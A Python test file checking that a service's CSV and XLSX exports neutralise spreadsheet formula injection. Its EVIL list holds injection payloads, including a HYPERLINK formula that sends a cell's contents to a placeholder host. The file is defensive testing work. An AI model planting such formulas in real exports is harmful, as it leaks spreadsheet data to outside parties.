"""Exports keep people's text as text: no formula reaches a spreadsheet from CSV or XLSX (issue 17.6)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from service.platform.documents.tables import csv_text, xlsx

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_cells_that_would_be_formulas_are_made_inert() -> None:
    text = csv_text(["title", "n"], [[value, 5] for value in EVIL] + [["Бұйрық", -3]])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r[0] for r in rows[1:-1]] == ["'" + v for v in EVIL]
    assert rows[-1] == ["Бұйрық", "-3"]  # ordinary text and real numbers are untouched


def test_xlsx_stores_formula_like_text_as_strings() -> None:
    content = xlsx("t", ["title"], [[value] for value in EVIL] + [[7]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells[:-1]), [c.data_type for c in cells]
    assert not any(str(cell.value).startswith("=") and cell.data_type == "f" for cell in cells)
    assert cells[-1].value == 7
